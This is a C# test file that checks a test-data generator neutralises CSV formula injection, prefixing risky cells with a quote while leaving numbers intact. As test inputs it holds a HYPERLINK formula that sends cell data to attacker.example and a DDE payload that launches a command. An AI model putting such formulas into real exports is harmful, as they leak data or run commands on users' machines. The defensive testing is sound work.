using System.Globalization;
using CsvHelper;
using TestDataAgent.Contracts.V1;
using TestDataAgent.Generators.Output;
using TestDataAgent.Tests.Infrastructure;

namespace TestDataAgent.Tests.Access;

/// <summary>CSV that is safe to open in a spreadsheet: formula cells neutralised (OWASP), numbers untouched, raw on request.</summary>
[Collection(ApiGroup.Name)]
public sealed class CsvInjectionTests(ApiFixture api)
{
    private const string Formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Open\")";

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("-12.50", "-12.50")]
    [InlineData("+3", "+3")]
    [InlineData("-1e5", "-1e5")]
    [InlineData("plain", "plain")]
    [InlineData("", "")]
    public void FormulaCellsAreNeutralisedAndNumbersAreNot(string cell, string expected) => Assert.Equal(expected, CsvCells.Neutralise(cell));

    [Fact]
    public async Task GeneratedCsvOpensWithFormulasAsText()
    {
        var rows = await CsvRowsAsync(hints: []);

        Assert.All(rows, row => Assert.Equal("'" + Formula, row["name"]));
    }

    [Fact]
    public async Task RawCsvHintKeepsCellsAsGenerated()
    {
        var rows = await CsvRowsAsync(hints: ["raw_csv"]);

        Assert.All(rows, row => Assert.Equal(Formula, row["name"]));
    }

    private async Task<List<Dictionary<string, string>>> CsvRowsAsync(string[] hints)
    {
        var request = new GenerateRequest { Entity = "product", Count = 5, Seed = 11, OutputFormat = OutputFormat.Csv };
        request.Scenarios.Add(new Scenario { Name = "attack", Count = 5, Overrides = { ["name"] = Formula } });
        request.Hints.AddRange(hints);
        var response = await api.Client.GenerateDataAsync(request, deadline: Deadlines.Call());
        Assert.True(response.Success, response.Error);

        using var reader = new CsvReader(new StringReader(response.Data), CultureInfo.InvariantCulture);
        var rows = new List<Dictionary<string, string>>();
        await reader.ReadAsync();
        reader.ReadHeader();
        while (await reader.ReadAsync())
        {
            rows.Add(reader.HeaderRecord!.ToDictionary(h => h, h => reader.GetField(h)!));
        }

        Assert.Equal(5, rows.Count);
        return rows;
    }
}
